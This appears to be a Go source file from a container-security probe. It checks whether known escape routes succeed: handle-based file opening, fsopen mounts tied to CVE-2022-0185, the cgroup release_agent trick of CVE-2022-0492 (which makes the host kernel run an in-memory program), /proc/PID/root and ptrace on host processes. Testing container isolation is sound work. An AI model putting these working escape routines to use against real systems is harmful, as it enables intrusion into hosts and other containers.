package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"syscall"
	"unsafe"
)

// Ways out of a container that have been used.

// fileHandle is struct file_handle with room for the largest one (MAX_HANDLE_SZ).
type fileHandle struct {
	size   uint32
	kind   int32
	handle [128]byte
}

// openByHandle opens a directory by its number instead of its name, as CAP_DAC_READ_SEARCH lets one do with every file
// of a file system, whichever part of it is mounted.
func openByHandle(none) Result {
	var last Result
	for _, folder := range []string{"/dev/shm", "/tmp", "/run", "/dev", "/"} {
		mount, err := syscall.Open(folder, syscall.O_RDONLY|syscall.O_DIRECTORY|syscall.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		last = openNumbered(folder, mount)
		syscall.Close(mount)
		if last.Outcome != "impossible" {
			return last
		}
	}
	if last.Outcome == "" {
		return impossible("there is no directory to try it with")
	}
	return last
}

func openNumbered(folder string, mount int) Result {
	path, err := syscall.BytePtrFromString(folder)
	if err != nil {
		return impossible("%v", err)
	}
	handle, id, directory := fileHandle{size: 128}, int32(0), atFdcwd
	_, _, errno := syscall.Syscall6(sysNameToHandleAt, uintptr(directory), uintptr(unsafe.Pointer(path)),
		uintptr(unsafe.Pointer(&handle)), uintptr(unsafe.Pointer(&id)), 0, 0)
	if errno != 0 {
		return failure("name_to_handle_at", errno)
	}
	fd, _, errno := syscall.Syscall(sysOpenByHandleAt, uintptr(mount), uintptr(unsafe.Pointer(&handle)), syscall.O_RDONLY|syscall.O_CLOEXEC)
	if errno != 0 {
		return failure("open_by_handle_at", errno)
	}
	return allowed("opened %s by its handle", folder).undone(syscall.Close(int(fd)))
}

const fsconfigCreate = 6 // FSCONFIG_CMD_CREATE

// fsopenMount mounts a tmpfs with the calls since Linux 5.2, the path of CVE-2022-0185.
func fsopenMount(none) Result {
	kind, empty := []byte("tmpfs\x00"), [1]byte{}
	context, _, errno := syscall.Syscall(sysFsopen, uintptr(unsafe.Pointer(&kind[0])), 0, 0)
	if errno != 0 {
		return failure("fsopen", errno, syscall.ENOSYS)
	}
	defer syscall.Close(int(context))
	if _, _, errno := syscall.Syscall6(sysFsconfig, context, fsconfigCreate, 0, 0, 0, 0); errno != 0 {
		return failure("fsconfig", errno)
	}
	mount, _, errno := syscall.Syscall(sysFsmount, context, 0, 0)
	if errno != 0 {
		return failure("fsmount", errno)
	}
	defer syscall.Close(int(mount))
	folder, wrong := aFolder()
	if wrong != nil {
		return *wrong
	}
	path, err := syscall.BytePtrFromString(folder)
	if err != nil {
		return impossible("%v", err)
	}
	directory := atFdcwd
	_, _, errno = syscall.Syscall6(sysMoveMount, mount, uintptr(unsafe.Pointer(&empty)), uintptr(directory),
		uintptr(unsafe.Pointer(path)), moveEmptyPath, 0)
	if errno != 0 {
		return failure("move_mount", errno)
	}
	return allowed("mounted a tmpfs on %s", folder).undone(syscall.Unmount(folder, syscall.MNT_DETACH))
}

// aFolder is a directory to mount on for a moment.
func aFolder() (string, *Result) {
	for _, folder := range []string{"/dev/shm", "/tmp", "/mnt", "/run", "/dev"} {
		if information, err := os.Stat(folder); err == nil && information.IsDir() {
			return folder, nil
		}
	}
	wrong := impossible("there is no directory to mount on")
	return "", &wrong
}

// releaseAgent names a program that the kernel starts when a cgroup of version 1 has become empty (CVE-2022-0492).
func releaseAgent(arguments markArguments) Result {
	folder, wrong := aFolder()
	if wrong != nil {
		return *wrong
	}
	if err := syscall.Mount("drydock", folder, "cgroup", 0, "none,name=drydock"); err != nil {
		// EBUSY: it is mounted; ENODEV: the kernel has no version 1.
		return failure("mount(cgroup)", err, syscall.ENODEV)
	}
	group := filepath.Join(folder, "drydock")
	result := useReleaseAgent(folder, group, arguments.Mark)
	os.Remove(group)
	return result.undone(syscall.Unmount(folder, syscall.MNT_DETACH))
}

func useReleaseAgent(root, group, mark string) Result {
	helper, err := tinyELF{code: markCode(mark)}.inMemory("drydock-agent")
	if err != nil {
		return impossible("a program in memory: %v", err)
	}
	defer helper.Close()
	if err := os.Mkdir(group, 0o755); err != nil {
		return failure("mkdir of a cgroup", err)
	}
	agent := fmt.Sprintf("/proc/%d/fd/%d", os.Getpid(), helper.Fd())
	for path, value := range map[string]string{root + "/release_agent": agent, group + "/notify_on_release": "1"} {
		if err := os.WriteFile(path, []byte(value), 0); err != nil {
			return failure("write("+filepath.Base(path)+")", err)
		}
	}
	member := exec.Command("/proc/self/exe", "pause")
	member.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	if err := member.Start(); err != nil {
		return impossible("no process to put into the cgroup could be started: %v", err)
	}
	joined := os.WriteFile(group+"/cgroup.procs", []byte(fmt.Sprint(member.Process.Pid)), 0)
	member.Process.Kill()
	member.Wait()
	if joined != nil {
		return failure("write(cgroup.procs)", joined)
	}
	if !awaitRelease(mark) {
		return allowed("named %s, and left the cgroup empty", agent)
	}
	return allowed("named %s, which the kernel has run", agent)
}

// hostRoot opens the root directory of a process outside, which is the host's or another container's.
func hostRoot(none) Result {
	pids, err := outsiders()
	if err != nil {
		return impossible("%v", err)
	}
	last := refused("open(/proc/PID/root)", "ESRCH", "no process outside can be seen")
	for _, pid := range pids {
		path := fmt.Sprintf("/proc/%d/root/", pid)
		fd, err := syscall.Open(path, syscall.O_RDONLY|syscall.O_DIRECTORY|syscall.O_CLOEXEC, 0)
		if err == nil {
			syscall.Close(fd)
			return allowed("opened %s", path)
		}
		last = failure("open("+path+")", err, syscall.ENOENT, syscall.ESRCH)
	}
	return last
}

// ptraceHost attaches to a process outside.
func ptraceHost(none) Result {
	pids, err := outsiders()
	if err != nil {
		return impossible("%v", err)
	}
	last := refused("ptrace(PTRACE_SEIZE)", "ESRCH", "no process outside can be seen")
	for _, pid := range pids {
		if last = seize(pid); last.Outcome == "allowed" {
			return last
		}
	}
	return last
}
